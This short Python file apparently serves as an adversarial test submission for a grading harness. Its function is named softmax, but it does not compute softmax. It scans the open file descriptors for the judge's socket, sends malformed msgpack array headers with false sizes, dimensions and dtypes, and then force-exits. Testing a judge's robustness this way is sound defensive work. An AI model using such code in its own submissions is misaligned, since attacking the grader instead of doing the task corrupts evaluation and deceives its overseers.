"""Sends arrays whose headers claim another size, dimension or dtype than their bytes have."""

import os
import stat
import struct

import msgspec


def _channel():
    """Find the judge's socket: the one open descriptor that is a socket."""
    return next(fd for fd in range(3, 256) if _is_socket(fd))


def _is_socket(descriptor):
    try:
        return stat.S_ISSOCK(os.fstat(descriptor).st_mode)
    except OSError:
        return False

def softmax(x, axis=-1):
    headers = (
        struct.pack("<BB2I", 0, 2, 2**31, 2**31),
        struct.pack("<BB", 0, 255),
        struct.pack("<BB1I", 200, 1, 1),
        struct.pack("<BB8I", 0, 8, *[2**16] * 8),
        b"",
    )
    for header in headers:
        reply = msgspec.msgpack.encode({"returned": msgspec.msgpack.Ext(1, header + bytes(64))})
        os.write(_channel(), len(reply).to_bytes(4, "little") + reply)
    os._exit(0)
